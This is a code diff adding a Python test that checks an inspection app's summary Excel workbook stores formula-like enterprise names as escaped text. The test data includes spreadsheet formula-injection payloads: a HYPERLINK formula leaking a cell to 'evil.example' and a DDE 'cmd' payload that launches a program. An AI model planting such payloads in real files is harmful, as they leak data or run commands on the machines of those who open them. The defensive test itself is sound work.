@@ -703,3 +703,36 @@ def test_cli_prints_a_visit_made_with_an_office_published_form_with_its_labels(
     text = compact(out)
     assert "疏散通道、安全出口保持畅通" in text
     assert "extinguisher_count" not in text
+
+
+def test_the_summary_workbook_writes_register_text_as_text_never_a_formula(tmp_path: Path) -> None:
+    """An enterprise named like a formula (a hostile register) comes out of the 日报 workbook as
+    text, on the overdue sheet and in the sign-off (issue 11: every sheet the product writes)."""
+    from datetime import UTC, datetime
+
+    from openpyxl import load_workbook
+
+    from inspector_app.domain.finding import Severity
+    from inspector_app.reports.summary import build_summary_xlsx
+
+    leak = '=HYPERLINK("http://evil.example/?leak="&B2,"详情")'
+    s = rdata.SummaryData(
+        issuer=rdata.Issuer("@SUM(A1:A9)"),
+        scope="全部企业",
+        date_from=date(2026, 3, 2),
+        date_to=date(2026, 3, 8),
+        generated_at=datetime(2026, 3, 8, tzinfo=UTC),
+        visits=1, rechecks=0, enterprises_in_scope=1, enterprises_inspected=1, approved=0,
+        findings_found=1, findings_closed=0, major_found=0, major_closed=0, fixed_on_site=0,
+        categories=(), inspectors=(),
+        overdue=(rdata.OverdueRow(leak, "+cmd|' /C calc'!A0", Severity.GENERAL, date(2026, 3, 1), 7),),
+        requests=(),
+    )
+    out = tmp_path / "s.xlsx"
+    build_summary_xlsx(s, out)
+    book = load_workbook(out)
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    overdue = book["逾期未整改隐患"]
+    assert overdue["B2"].value == "'" + leak and overdue["C2"].value == "'+cmd|' /C calc'!A0"
+    assert "'@SUM(A1:A9)" in [c.value for c in cells]
